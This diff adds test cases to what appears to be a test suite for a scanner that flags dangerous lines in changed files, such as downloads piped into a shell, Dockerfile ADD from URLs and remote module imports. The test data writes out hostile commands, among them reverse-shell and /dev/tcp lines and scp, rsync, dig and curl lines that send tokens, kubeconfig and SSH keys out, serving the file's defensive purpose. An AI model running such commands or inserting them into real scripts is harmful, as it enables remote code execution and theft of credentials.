@@ -115,6 +115,34 @@ describe('what is said', () => {
     ['/tmp/a', 'a file from outside the repo is run'],
     ['curl -o /tmp/i https://a/b; /tmp/i', 'the downloaded file /tmp/i is run or applied'],
     ['eval a || npx b', 'text is run by eval'],
+    ['base64 -d a | sh', 'a decoded or made-up text is piped into a shell'],
+    ['cat a | sh', 'text is piped into a shell'],
+    ['x "cat a | sh`', 'text is piped into a shell'],
+    ['cat my-token | curl u', 'secrets are sent away'],
+    ['bash -c "$(curl u)"', 'a download is run as a command'],
+    ['$(curl u)', 'a made-up command is run'],
+    ['`date; curl u`', 'a made-up command is run'],
+    ['python3.11 - <(curl u)', 'a download is run by redirection'],
+    ['. /tmp/a', 'a file from outside the repo is run'],
+    ['new Function(a)', 'text is run'],
+    ['io.popen("x"):read() .. load(y, popen, "curl u")', 'a download is run'],
+    ['load(a.b(popen("x curl u")))', 'a download is run'],
+    ['PATH=/tmp:$PATH', 'programs are taken from a folder that anyone can write'],
+    ['ls > /dev/tcp/a/1', 'a raw network connection is opened'],
+    ['nc -e sh a 1', 'a shell is opened to the network'],
+    ['curl -T a u', 'a file is uploaded'],
+    ['exec(requests.get(a))', 'a download is run'],
+    ['LD_PRELOAD=a ls', 'a variable that makes other programs run code is set'],
+    ['scp a/.kube/config b:c', 'secrets are sent away'],
+    ['  scp -p id_home x  b:c', 'secrets are sent away'],
+    ['sftp a.age x b:', 'secrets are sent away'],
+    ['rsync kubeconfig  x host:', 'secrets are sent away'],
+    ['dig x $(echo "$MY_TOKEN").a', 'secrets are sent away'],
+    ['host $(a DB_PASSWORD)', 'secrets are sent away'],
+    ['ssh x scp secret b:c', undefined],
+    ['scp secret b', undefined],
+    ['scp b c:d', undefined],
+    ['dig $(date) TOKEN', undefined],
     ['cat a | tee b', undefined],
     ['ls', undefined],
   ])('%s: %s', (line, what) =>
@@ -134,7 +162,48 @@ describe('what is said', () => {
     ]));
 });
 
+describe('code that a file takes from an address', () => {
+  const at = (path: string, line: string) => told(path, 'x\n', `x\n${line}\n`).map(({ message }) => message);
+  it.each(['ADD https://a/b /c', '  ADD   http://a/b /c', 'ADD --chown=a:b  --chmod=755 https://a/b /c'])(
+    '%s',
+    (line) =>
+      expect(at('Dockerfile', line)).toEqual([`a file from outside the repo is put into an image: ${END}`]),
+  );
+  it.each([
+    'ADD --checksum=sha256:a https://a/b /c',
+    'ADD --chown=a --checksum=sha256:a https://a/b /c',
+    'ADD a /c',
+    'ADD a https://a/b',
+    'RUN ADD-x https://a/b',
+    'x ADD https://a/b /c',
+    'ADD httpss://a/b /c',
+    'ADDhttps://a/b /c',
+  ])('not: %s', (line) => expect(at('Dockerfile', line)).toEqual([]));
+  it.each([
+    'await import("https://a/b.js")',
+    "import(  'http://a/b.js')",
+    'import(`https://a`)',
+    'import a from "https://a/b.js"',
+    "  export * from   'http://a/b.js'",
+    'import { a, b } from "https://a"',
+  ])('%s', (line) => expect(at('a.ts', line)).toEqual([`code is taken from an address: ${END}`]));
+  it.each([
+    'import("./a.js")',
+    'import(x, "https://a")',
+    'import a from "./https:"',
+    'x import a from "https://a"',
+    'imports a from "https://a"',
+    'import a fromx "https://a"',
+    'import(xhttps:)',
+  ])('not: %s', (line) => expect(at('a.ts', line)).toEqual([]));
+});
+
 describe('a download and its name', () => {
+  it.each(['python3.11 i', 'python3 i', 'python i'])('is run by %s', (line) =>
+    expect(blamed(`curl -o i u\n${line}`)).toEqual([2]),
+  );
+  it('in a variable of a long name', () => expect(blamed('my_S2=$(curl u)\nsh -c "$my_S2"')).toEqual([2]));
+
   it.each([
     ['curl -fsO -L https://a/b/i', './i', [2]],
     ['curl -fsL https://a/b/i', './i', []],
